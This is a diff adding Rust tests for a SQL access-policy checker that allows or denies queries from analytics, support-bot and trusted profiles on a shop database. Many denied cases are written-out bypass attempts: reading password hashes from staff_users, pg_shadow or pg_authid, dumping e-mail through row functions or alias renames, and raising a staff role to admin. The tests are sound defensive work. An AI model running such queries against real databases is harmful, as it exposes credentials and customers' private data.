+            "SELECT (SELECT c FROM orders LIMIT 1) FROM customers c",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT o.id, c FROM orders o JOIN customers c ON c.id = o.customer_id",
+            "column_denied",
+        ),
+        (A, "SELECT * FROM customers, orders", "column_denied"),
+        (
+            A,
+            "SELECT o.*, c.* FROM orders o JOIN customers c ON c.id = o.customer_id",
+            "column_denied",
+        ),
+        (A, "SELECT * FROM refunds", "column_denied"),
+        (A, "SELECT r FROM refunds r", "column_denied"),
+        (
+            A,
+            "SELECT id, order_id, amount_cents, reason, created_at FROM refunds",
+            "allow",
+        ),
+        (A, "SELECT created_by FROM refunds", "column_denied"),
+        (A, "SELECT o FROM orders o", "allow"),
+        (A, "SELECT row_to_json(o) FROM orders o", "allow"),
+        (A, "SELECT o.* FROM orders o", "allow"),
+        (
+            A,
+            "SELECT * FROM orders o JOIN order_items i ON i.order_id = o.id",
+            "allow",
+        ),
+        (A, "SELECT count(*) FROM customers", "allow"),
+        (A, "SELECT count(1) FROM customers", "allow"),
+        (A, "SELECT count(id) FROM customers", "allow"),
+        (
+            A,
+            "SELECT count(DISTINCT email) FROM customers",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT id, country, loyalty_tier, marketing_opt_in, created_at FROM customers",
+            "allow",
+        ),
+        // Attribute notation calls a function on the whole row: `c.to_json`
+        // is to_json(c) (PG 15 returns every column, e-mail included).
+        (
+            A,
+            "SELECT c.to_json FROM customers c",
+            "column_denied|function_not_allowed",
+        ),
+        (
+            S,
+            "SELECT c.to_json FROM customers c WHERE c.id = 1",
+            "column_denied|function_not_allowed",
+        ),
+        (
+            S,
+            "SELECT c.row_to_json FROM customers c WHERE c.id = 1",
+            "column_denied|function_not_allowed",
+        ),
+        (
+            S,
+            "SELECT customers.to_jsonb FROM customers WHERE id = 1",
+            "column_denied|function_not_allowed",
+        ),
+        // Functional notation for a column: `email(c)` is c.email.
+        (
+            A,
+            "SELECT email(c) FROM customers c",
+            "column_denied|function_not_allowed",
+        ),
+        (S, "SELECT * FROM customers WHERE id = 1", "column_denied"),
+        (
+            S,
+            "SELECT c FROM customers c WHERE c.id = 1",
+            "column_denied",
+        ),
+        (
+            S,
+            "SELECT marketing_opt_in FROM customers WHERE id = 1",
+            "column_denied",
+        ),
+        (
+            S,
+            "SELECT id, email, full_name, phone FROM customers WHERE id = 1",
+            "allow",
+        ),
+        (S, "SELECT * FROM orders WHERE customer_id = 1", "allow"),
+    ]);
+}
+
+/// A table alias with a column list renames the table's columns, in order:
+/// `customers AS c(a, x)` makes `x` the e-mail column (checked on PG 15).
+#[test]
+fn table_column_aliases() {
+    check(&[
+        (A, "SELECT x FROM customers AS c(a, x)", "column_denied"),
+        (A, "SELECT c.x FROM customers AS c(a, x)", "column_denied"),
+        // Renaming a denied column to an allowed name.
+        (
+            A,
+            "SELECT country FROM customers c(id, country, full_name, phone, x)",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT c.country FROM customers c(id, country, full_name, phone, x)",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT b FROM customers c(id, b) JOIN orders o ON o.customer_id = c.id",
+            "column_denied",
+        ),
+        (
+            A,
+            "SELECT j.b FROM (customers c JOIN orders o ON o.customer_id = c.id) AS j(a, b)",
+            "column_denied|unsupported_statement",
+        ),
+        (
+            S,
+            "SELECT c.m FROM customers c(a, b, d, e, f, g, m) WHERE c.a = 1",
+            "column_denied",
+        ),
+        (
+            S,
+            "SELECT m FROM customers c(a, b, d, e, f, g, m) WHERE a = 1",
+            "column_denied",
+        ),
+        // Harmless renames stay allowed.
+        (A, "SELECT i FROM customers AS c(i)", "allow"),
+        (A, "SELECT k, s FROM orders AS o(k, c, s)", "allow"),
+        (
+            A,
+            "SELECT o.k FROM orders o(k) JOIN order_items i ON i.order_id = o.k",
+            "allow",
+        ),
+    ]);
+}
+
+/// The support agent's writes: tables, operations and write columns.
+#[test]
+fn support_bot_writes() {
+    check(&[
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'late', 'kpatel')",
+            "allow",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'a', 'kpatel'), (2, 200, 'b', 'lwong')",
+            "allow",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES ($1, $2, $3, $4)",
+            "allow",
+        ),
+        (
+            S,
+            "INSERT INTO public.refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'late', 'kpatel')",
+            "allow",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (id, order_id, amount_cents, reason, created_by) VALUES (99, 1, 100, 'late', 'kpatel')",
+            "column_denied",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by, created_at) VALUES (1, 100, 'x', 'kpatel', now())",
+            "column_denied",
+        ),
+        (
+            S,
+            "INSERT INTO refunds VALUES (99, 1, 100, 'late', now(), 'kpatel')",
+            "column_denied",
+        ),
+        (
+            S,
+            "INSERT INTO refunds SELECT * FROM refunds",
+            "column_denied",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) SELECT id, total_cents, 'goodwill', 'kpatel' FROM orders WHERE id = 1",
+            "allow",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) SELECT 1, 100, 'x', username FROM staff_users",
+            "table_denied",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) SELECT 1, 100, password_hash, 'kpatel' FROM staff_users LIMIT 1",
+            "table_denied",
+        ),
+        (
+            S,
+            "WITH s AS (SELECT username FROM staff_users LIMIT 1) INSERT INTO refunds (order_id, amount_cents, reason, created_by) SELECT 1, 100, 'x', username FROM s",
+            "table_denied",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) SELECT 1, 100, marketing_opt_in::text, 'kpatel' FROM customers WHERE id = 1",
+            "column_denied",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES ((SELECT id FROM orders WHERE id = 1), 100, 'x', 'kpatel')",
+            "allow",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, (SELECT password_hash FROM staff_users LIMIT 1), 'kpatel')",
+            "table_denied",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, DEFAULT, 'x', 'kpatel')",
+            "allow",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') RETURNING *",
+            "allow",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') RETURNING id, created_at",
+            "allow",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') RETURNING (SELECT marketing_opt_in FROM customers WHERE id = 1)",
+            "column_denied",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') ON CONFLICT DO NOTHING",
+            "allow",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') ON CONFLICT (id) DO UPDATE SET reason = excluded.reason",
+            "operation_not_allowed",
+        ),
+        (
+            S,
+            "INSERT INTO orders (customer_id, shipping_country) VALUES (1, 'US')",
+            "operation_not_allowed",
+        ),
+        (
+            S,
+            "INSERT INTO staff_users (username) VALUES ('evil')",
+            "table_denied",
+        ),
+        (
+            S,
+            "INSERT INTO products (sku) VALUES ('x')",
+            "operation_not_allowed",
+        ),
+        (
+            S,
+            "UPDATE orders SET status = 'shipped', updated_at = now() WHERE id = 1",
+            "allow",
+        ),
+        (
+            S,
+            "UPDATE orders SET notes = 'called customer' WHERE id = $1",
+            "allow",
+        ),
+        (
+            S,
+            "UPDATE orders o SET status = 'x' WHERE o.id = 1",
+            "allow",
+        ),
+        (
+            S,
+            "UPDATE orders SET (status, notes) = ('x', 'y') WHERE id = 1",
+            "allow",
+        ),
+        (
+            S,
+            "UPDATE orders SET (status, total_cents) = ('x', 0) WHERE id = 1",
+            "column_denied",
+        ),
+        (
+            S,
+            "UPDATE orders SET customer_id = 2 WHERE id = 1",
+            "column_denied",
+        ),
+        (S, "UPDATE orders SET id = 2 WHERE id = 1", "column_denied"),
+        // `SET col.field = …` assigns a field of column `col` (PG rejects it
+        // here only because total_cents is not composite).
+        (
+            S,
+            "UPDATE orders SET total_cents.status = 'x' WHERE id = 1",
+            "column_denied",
+        ),
+        (S, "UPDATE orders SET status = 'x' WHERE true", "allow"),
+        (
+            S,
+            "UPDATE orders SET status = 'x' WHERE id = 1 RETURNING *",
+            "allow",
+        ),
+        (
+            S,
+            "UPDATE orders SET status = 'x' WHERE id = 1 RETURNING (SELECT password_hash FROM staff_users LIMIT 1)",
+            "table_denied",
+        ),
+        (
+            S,
+            "UPDATE orders SET notes = (SELECT marketing_opt_in::text FROM customers WHERE id = 1) WHERE id = 1",
+            "column_denied",
+        ),
+        (
+            S,
+            "UPDATE orders SET notes = (SELECT email FROM customers WHERE id = 1) WHERE id = 1",
+            "allow",
+        ),
+        (
+            S,
+            "UPDATE orders SET status = 'x' FROM order_items WHERE order_items.order_id = orders.id AND order_items.product_id = 1",
+            "allow",
+        ),
+        (
+            S,
+            "UPDATE orders SET notes = s.password_hash FROM staff_users s WHERE s.id = 1 AND orders.id = 1",
+            "table_denied",
+        ),
+        (
+            S,
+            "UPDATE orders SET notes = c.marketing_opt_in::text FROM customers c WHERE c.id = orders.customer_id AND orders.id = 1",
+            "column_denied",
+        ),
+        (
+            S,
+            "UPDATE orders SET status = 'x' FROM customers c WHERE c.id = orders.customer_id AND c.marketing_opt_in",
+            "column_denied",
+        ),
+        (
+            S,
+            "UPDATE products SET stock_qty = 0 WHERE id = 1",
+            "operation_not_allowed",
+        ),
+        (
+            S,
+            "UPDATE refunds SET amount_cents = 1 WHERE id = 1",
+            "operation_not_allowed",
+        ),
+        (
+            S,
+            "UPDATE staff_users SET role = 'admin' WHERE id = 2",
+            "table_denied",
+        ),
+        (
+            S,
+            "DELETE FROM refunds USING orders WHERE refunds.order_id = orders.id AND orders.id = 1",
+            "statement_class_denied",
+        ),
+        (
+            S,
+            "DELETE FROM orders WHERE id = 1 RETURNING *",
+            "statement_class_denied",
+        ),
+        (
+            T,
+            "DELETE FROM orders USING order_items i WHERE i.order_id = orders.id AND i.quantity > 2",
+            "allow",
+        ),
+        (T, "DELETE FROM orders", "allow"),
+        (T, "UPDATE orders SET total_cents = 0", "allow"),
+        (
+            T,
+            "INSERT INTO orders (customer_id, shipping_country) VALUES (1, 'US') ON CONFLICT (id) DO UPDATE SET status = excluded.status",
+            "allow",
+        ),
+        (
+            A,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel')",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "UPDATE orders SET status = 'x' WHERE id = 1",
+            "statement_class_denied",
+        ),
+    ]);
+}
+
+/// Ordinary reporting SQL must pass untouched: false rejections push users
+/// to switch protection off (SECURITY: "Operational").
+#[test]
+fn analytics_ordinary_queries() {
+    let queries: &[&str] = &[
+        "SELECT status, count(*) FROM orders GROUP BY status ORDER BY count(*) DESC",
+        "SELECT date_trunc('month', created_at) AS month, sum(total_cents) / 100.0 AS revenue FROM orders WHERE status <> 'cancelled' GROUP BY 1 ORDER BY 1",
+        "SELECT p.category, sum(oi.quantity * oi.unit_price_cents) AS revenue FROM order_items oi JOIN products p ON p.id = oi.product_id GROUP BY p.category ORDER BY revenue DESC",
+        "SELECT o.id, o.total_cents, coalesce(sum(r.amount_cents), 0) AS refunded FROM orders o LEFT JOIN refunds r ON r.order_id = o.id GROUP BY o.id, o.total_cents",
+        "SELECT c.country, count(DISTINCT o.customer_id) AS buyers FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY c.country",
+        "SELECT loyalty_tier, count(*) FROM customers GROUP BY loyalty_tier",
+        "SELECT country, count(*) FILTER (WHERE marketing_opt_in) AS opted_in, count(*) AS total FROM customers GROUP BY country HAVING count(*) > 2",
+        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total_cents) AS median_order FROM orders",
+        "SELECT percentile_disc(ARRAY[0.25, 0.5, 0.75]) WITHIN GROUP (ORDER BY total_cents) FROM orders",
+        "SELECT id, total_cents, rank() OVER (PARTITION BY shipping_country ORDER BY total_cents DESC) AS r FROM orders",
+        "SELECT id, created_at, sum(total_cents) OVER (ORDER BY created_at ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running FROM orders",
+        "SELECT DISTINCT ON (customer_id) customer_id, id, created_at FROM orders ORDER BY customer_id, created_at DESC",
+        "WITH monthly AS (SELECT date_trunc('month', created_at) AS m, sum(total_cents) AS rev FROM orders GROUP BY 1) SELECT m, rev, lag(rev) OVER (ORDER BY m) AS prev FROM monthly",
+        "SELECT extract(year FROM created_at) AS y, extract(month FROM created_at) AS mo, count(*) FROM orders GROUP BY 1, 2",
+        "SELECT EXTRACT(DOW FROM created_at) AS dow, count(*) FROM orders GROUP BY 1 ORDER BY 1",
+        "SELECT to_char(created_at, 'YYYY-MM') AS ym, count(*) FROM orders GROUP BY ym ORDER BY ym",
+        "SELECT CASE WHEN total_cents >= 10000 THEN 'large' WHEN total_cents >= 5000 THEN 'medium' ELSE 'small' END AS bucket, count(*) FROM orders GROUP BY 1",
+        "SELECT d::date AS day, count(o.id) FROM generate_series(date '2025-01-01', date '2025-01-31', interval '1 day') AS d LEFT JOIN orders o ON o.created_at::date = d::date GROUP BY 1 ORDER BY 1",
+        "SELECT m::date, coalesce(sum(o.total_cents), 0) FROM generate_series(date_trunc('month', now()) - interval '11 months', date_trunc('month', now()), interval '1 month') AS m LEFT JOIN orders o ON date_trunc('month', o.created_at) = m GROUP BY m ORDER BY m",
+        "SELECT json_build_object('status', status, 'n', count(*)) FROM orders GROUP BY status",
+        "SELECT json_agg(json_build_object('id', id, 'total', total_cents)) FROM orders WHERE status = 'paid'",
+        "SELECT jsonb_build_object('country', country, 'tier', loyalty_tier) FROM customers",
+        "SELECT order_id, string_agg(p.name, ', ' ORDER BY p.name) FROM order_items oi JOIN products p ON p.id = oi.product_id GROUP BY order_id",
+        "SELECT name, price_cents FROM products WHERE active ORDER BY price_cents DESC LIMIT 5",
+        "SELECT * FROM orders ORDER BY created_at DESC LIMIT 20 OFFSET 40",
+        "SELECT id FROM orders WHERE status = 'delivered' UNION SELECT order_id FROM refunds",
+        "SELECT id FROM orders EXCEPT SELECT order_id FROM refunds",
+        "SELECT id FROM orders INTERSECT SELECT order_id FROM order_items",
+        "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE country = 'DE')",
+        "SELECT o.* FROM orders o WHERE EXISTS (SELECT 1 FROM refunds r WHERE r.order_id = o.id)",
+        "SELECT o.id FROM orders o WHERE NOT EXISTS (SELECT 1 FROM order_items i WHERE i.order_id = o.id)",
+        "SELECT o.id, (SELECT count(*) FROM order_items i WHERE i.order_id = o.id) AS items FROM orders o",
+        "SELECT reason, count(*), sum(amount_cents) FROM refunds GROUP BY reason ORDER BY 2 DESC",
+        "SELECT p.sku, p.stock_qty FROM products p WHERE p.stock_qty < 50 AND p.active",
+        "SELECT category, avg(price_cents)::numeric(10, 2) FROM products GROUP BY category",
+        "SELECT round(avg(total_cents) / 100.0, 2) AS aov FROM orders WHERE created_at >= now() - interval '90 days'",
+        "SELECT count(*) FROM orders WHERE created_at BETWEEN '2025-01-01' AND '2025-03-31'",
+        "SELECT shipping_country, count(*) AS n, sum(total_cents) AS rev FROM orders GROUP BY ROLLUP (shipping_country)",
+        "SELECT status, shipping_country, count(*) FROM orders GROUP BY GROUPING SETS ((status), (shipping_country), ())",
+        "SELECT country, loyalty_tier, count(*) FROM customers GROUP BY CUBE (country, loyalty_tier)",
+        "SELECT ntile(4) OVER (ORDER BY total_cents) AS quartile, id FROM orders",
+        "SELECT id, total_cents - lag(total_cents) OVER w AS delta FROM orders WINDOW w AS (PARTITION BY customer_id ORDER BY created_at)",
+        "SELECT customer_id, count(*) AS orders, min(created_at) AS first_order, max(created_at) AS last_order FROM orders GROUP BY customer_id HAVING count(*) >= 3",
+        "SELECT c.loyalty_tier, avg(o.total_cents) FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY c.loyalty_tier",
+        "SELECT date_part('dow', created_at) AS dow, count(*) FROM orders GROUP BY 1 ORDER BY 1",
+        "SELECT age(max(created_at), min(created_at)) FROM orders",
+        "SELECT id FROM orders WHERE notes ILIKE '%gift%'",
+        "SELECT id FROM orders WHERE notes IS NOT NULL AND status IN ('paid', 'shipped')",
+        "SELECT coalesce(notes, '(none)') FROM orders LIMIT 10",
+        "SELECT nullif(sum(amount_cents), 0) FROM refunds",
+        "SELECT greatest(max(total_cents), 0), least(min(total_cents), 0) FROM orders",
+        "SELECT sum(total_cents) FILTER (WHERE status = 'refunded')::float / nullif(sum(total_cents), 0) AS refund_rate FROM orders",
+        "SELECT array_agg(DISTINCT shipping_country ORDER BY shipping_country) FROM orders",
+        "SELECT order_id, sum(quantity) FROM order_items GROUP BY order_id ORDER BY 2 DESC FETCH FIRST 10 ROWS ONLY",
+        "SELECT p.name, sum(i.quantity) AS units FROM products p LEFT JOIN order_items i ON i.product_id = p.id GROUP BY p.name ORDER BY units DESC NULLS LAST",
+        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 12) SELECT i FROM n",
+        "SELECT status FROM orders WHERE status = ANY (ARRAY['paid', 'shipped'])",
+        "SELECT cume_dist() OVER (ORDER BY total_cents), percent_rank() OVER (ORDER BY total_cents) FROM orders",
+        "SELECT first_value(id) OVER (PARTITION BY customer_id ORDER BY created_at) FROM orders",
+        "SELECT count(*) FROM orders o JOIN refunds r ON r.order_id = o.id WHERE r.created_at > o.created_at + interval '5 days'",
+        "SELECT mode() WITHIN GROUP (ORDER BY shipping_country) FROM orders",
+        "SELECT stddev(total_cents), variance(total_cents) FROM orders",
+        "SELECT corr(quantity, unit_price_cents) FROM order_items",
+        "SELECT width_bucket(total_cents, 0, 20000, 10) AS bucket, count(*) FROM orders GROUP BY 1",
+        "SELECT upper(left(sku, 3)), count(*) FROM products GROUP BY 1",
+        "SELECT split_part(sku, '-', 1) AS family FROM products",
+        "SELECT concat_ws(' / ', category, name) FROM products",
+        "SELECT id, created_at AT TIME ZONE 'UTC' FROM orders",
+        "SELECT date_bin('15 minutes', created_at, timestamp '2025-01-01') AS slot, count(*) FROM orders GROUP BY 1",
+        "SELECT customer_id, sum(total_cents) AS ltv, dense_rank() OVER (ORDER BY sum(total_cents) DESC) AS rnk FROM orders GROUP BY customer_id",
+        "SELECT o.id, o.created_at::date AS d FROM orders o WHERE o.created_at >= current_date - 30",
+        "SELECT count(*) FROM orders WHERE extract(epoch FROM updated_at - created_at) > 86400",
+        "SELECT CAST(total_cents AS numeric) / 100 FROM orders",
+        "SELECT status, count(*) * 100.0 / sum(count(*)) OVER () AS pct FROM orders GROUP BY status",
+        "SELECT * FROM (SELECT customer_id, count(*) AS n FROM orders GROUP BY customer_id) t WHERE n > 5",
+        "SELECT c.country, p.category, sum(i.quantity) FROM orders o JOIN customers c ON c.id = o.customer_id JOIN order_items i ON i.order_id = o.id JOIN products p ON p.id = i.product_id GROUP BY c.country, p.category",
+        "SELECT id, total_cents FROM orders WHERE id = $1",
+        "SELECT count(*) FROM customers WHERE created_at >= '2024-06-01' AND loyalty_tier <> 'standard'",
+        "SELECT r.reason, o.status FROM refunds r JOIN orders o ON o.id = r.order_id",
+        "select count(*) as \"Total Orders\" from orders",
+        "SELECT substring(sku FROM 1 FOR 3), trim(name), position('-' IN sku) FROM products",
+        "SELECT bool_or(active), bool_and(active) FROM products",
+        "SELECT regexp_replace(name, '\\s+', ' ', 'g') FROM products",
+        "SELECT make_date(2025, m, 1) FROM generate_series(1, 12) AS m",
+        "SELECT sum(total_cents) OVER (PARTITION BY date_trunc('week', created_at)) FROM orders",
+        "SELECT EXISTS (SELECT 1 FROM orders WHERE status = 'pending')",
+        "SELECT o.id, o.total_cents - coalesce(r.refunded, 0) AS net FROM orders o LEFT JOIN (SELECT order_id, sum(amount_cents) AS refunded FROM refunds GROUP BY order_id) r ON r.order_id = o.id",
+        "SELECT count(*) FROM orders WHERE created_at > now() - '7 days'::interval",
+        "SELECT id::text || '-' || status FROM orders",
+        "SELECT ROUND(100.0 * COUNT(*) FILTER (WHERE status = 'cancelled') / COUNT(*), 1) FROM orders",
+        "SELECT to_char(date_trunc('week', created_at), 'IYYY-IW') FROM orders",
+        "SELECT * FROM products ORDER BY random() LIMIT 3",
+        "SELECT array_length(array_agg(id), 1) FROM orders",
+        "SELECT jsonb_agg(p ORDER BY p.id) FROM products p",
+        "SELECT row_to_json(o) FROM orders o LIMIT 1",
+        "SELECT count(*) FILTER (WHERE c.marketing_opt_in) FROM customers c",
+        "SELECT o.id FROM orders o ORDER BY o.created_at DESC NULLS LAST LIMIT ALL",
+        "SELECT current_date, now(), CURRENT_TIMESTAMP, localtimestamp",
+        "SELECT interval '1 day' * 3, now()::date - 7",
+        "SELECT count(*) FROM orders WHERE created_at::date = CURRENT_DATE - 1",
+        "SELECT o.shipping_country, c.country FROM orders o JOIN customers c USING (id) LIMIT 5",
+        "SELECT p.category, count(*) FROM products p WHERE p.category IN (SELECT DISTINCT category FROM products WHERE price_cents > 5000) GROUP BY 1",
+        "SELECT id FROM orders WHERE status IS DISTINCT FROM 'cancelled'",
+        "SELECT sum(CASE WHEN status = 'delivered' THEN 1 ELSE 0 END) AS delivered FROM orders",
+        "SELECT count(*) FROM orders TABLESAMPLE SYSTEM (10)",
+        "SELECT customer_id, array_agg(id ORDER BY created_at) FROM orders GROUP BY customer_id",
+        "SELECT o.id, x.n FROM orders o JOIN LATERAL (SELECT count(*) AS n FROM order_items i WHERE i.order_id = o.id) x ON true",
+        "SELECT generate_series(1, 3) AS n",
+        "SELECT unnest(ARRAY['a', 'b']) AS tag",
+        "SELECT format('%s orders', count(*)) FROM orders",
+        "SELECT lpad(id::text, 6, '0') FROM orders",
+        "SELECT now() - max(created_at) AS since_last FROM orders",
+        "SELECT count(*) AS n, shipping_country AS c FROM orders GROUP BY c ORDER BY n DESC",
+        "SELECT avg(total_cents) FROM orders WHERE created_at >= date_trunc('year', now())",
+        "SELECT o.id FROM orders o WHERE o.total_cents > (SELECT avg(total_cents) FROM orders)",
+        "SELECT product_id, sum(quantity) OVER (PARTITION BY product_id) FROM order_items",
+        "SELECT category, jsonb_object_agg(sku, price_cents) FROM products GROUP BY category",
+        "SELECT string_agg(DISTINCT category, ',') FROM products",
+        "SELECT count(*) FROM orders WHERE (status, shipping_country) = ('paid', 'US')",
+        "SELECT date_trunc('day', created_at)::date, count(*) FROM orders GROUP BY 1 HAVING count(*) > 1 ORDER BY 1 DESC",
+        // The SQL function-call cast `date(x)` is ordinary reporting SQL.
+        "SELECT date(created_at), count(*) FROM orders GROUP BY 1",
+    ];
+    assert!(queries.len() >= 60);
+    let cases: Vec<(&str, &str, &str)> = queries.iter().map(|q| (A, *q, "allow")).collect();
+    check(&cases);
+}
+
+/// Driver introspection and housekeeping (the driver profile).
+#[test]
+fn driver_profile() {
+    check(&[
+        // asyncpg
+        (
+            A,
+            "SELECT t.oid, t.typname FROM pg_catalog.pg_type t JOIN pg_catalog.pg_namespace n ON n.oid = t.typnamespace WHERE t.oid = $1",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT t.oid, t.typelem, t.typname, n.nspname, t.typtype, t.typbasetype FROM pg_catalog.pg_type AS t INNER JOIN pg_catalog.pg_namespace AS n ON (n.oid = t.typnamespace) WHERE t.oid = ANY($1::oid[])",
+            "allow",
+        ),
+        // psycopg
+        (A, "SELECT typname FROM pg_type WHERE oid = 25", "allow"),
+        (
+            A,
+            "SELECT t.oid, typarray FROM pg_type t JOIN pg_namespace ns ON typnamespace = ns.oid WHERE typname = 'hstore'",
+            "allow",
+        ),
+        // SQLAlchemy
+        (A, "select current_schema()", "allow"),
+        (A, "show standard_conforming_strings", "allow"),
+        (A, "SELECT pg_catalog.version()", "allow"),
+        (A, "select version()", "allow"),
+        (
+            A,
+            "SELECT CAST('test plain returns' AS VARCHAR(60)) AS anon_1",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT pg_catalog.pg_class.relname FROM pg_catalog.pg_class JOIN pg_catalog.pg_namespace ON pg_catalog.pg_namespace.oid = pg_catalog.pg_class.relnamespace WHERE pg_catalog.pg_class.relname = $1 AND pg_catalog.pg_class.relkind = ANY (ARRAY['r', 'p', 'f', 'v', 'm']) AND pg_catalog.pg_table_is_visible(pg_catalog.pg_class.oid) AND pg_catalog.pg_namespace.nspname != 'pg_catalog'",
+            "allow",
+        ),
+        (
+            A,
+            "select relname from pg_class c join pg_namespace n on n.oid = c.relnamespace where pg_catalog.pg_table_is_visible(c.oid) and relname = $1",
+            "allow",
+        ),
+        // JDBC
+        (
+            A,
+            "SELECT typinput = 'pg_catalog.array_in'::regproc AS is_array, typtype, typname, pg_type.oid FROM pg_catalog.pg_type LEFT JOIN (SELECT ns.oid AS nspoid, ns.nspname, r.r FROM pg_namespace AS ns JOIN (SELECT s.r, (current_schemas(false))[s.r] AS nspname FROM generate_series(1, array_upper(current_schemas(false), 1)) AS s(r)) AS r USING (nspname)) AS sp ON sp.nspoid = typnamespace WHERE pg_type.oid = $1 ORDER BY sp.r, pg_type.oid DESC",
+            "allow",
+        ),
+        (A, "SET extra_float_digits = 3", "allow"),
+        (
+            A,
+            "SET application_name = 'PostgreSQL JDBC Driver'",
+            "allow",
+        ),
+        // information_schema reflection
+        (
+            A,
+            "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'orders'",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod) FROM pg_catalog.pg_attribute a WHERE a.attrelid = 'orders'::regclass AND a.attnum > 0 AND NOT a.attisdropped",
+            "allow",
+        ),
+        (A, "SELECT pg_backend_pid()", "allow"),
+        (
+            A,
+            "SELECT current_database(), current_user, session_user",
+            "allow",
+        ),
+        (S, "SELECT typname FROM pg_type WHERE oid = 25", "allow"),
+        (S, "BEGIN ISOLATION LEVEL READ COMMITTED", "allow"),
+        // The catalog stays read-only, and credentials stay out.
+        (
+            A,
+            "UPDATE pg_catalog.pg_type SET typname = 'x' WHERE oid = 25",
+            "statement_class_denied|catalog_write",
+        ),
+        (
+            T,
+            "UPDATE pg_catalog.pg_type SET typname = 'x' WHERE oid = 25",
+            "catalog_write",
+        ),
+        (T, "DELETE FROM information_schema.tables", "catalog_write"),
+        (A, "SELECT * FROM pg_stat_activity", "catalog_denied"),
+        (
+            A,
+            "SELECT query FROM pg_catalog.pg_stat_activity",
+            "catalog_denied",
+        ),
+        (
+            A,
+            "SELECT usename, passwd FROM pg_shadow",
+            "credential_catalog",
+        ),
+        (A, "SELECT * FROM pg_user_mapping", "credential_catalog"),
+        (
+            A,
+            "SELECT * FROM pg_catalog.pg_largeobject",
+            "credential_catalog",
+        ),
+        (A, "SELECT * FROM pg_statistic", "credential_catalog"),
+        (
+            A,
+            "SELECT * FROM information_schema.user_mapping_options",
+            "credential_catalog",
+        ),
+        (
+            A,
+            "SELECT t.typname FROM pg_type t JOIN pg_authid a ON a.oid = t.typowner",
+            "credential_catalog",
+        ),
+        (T, "SELECT * FROM pg_authid", "credential_catalog"),
     ]);
 }
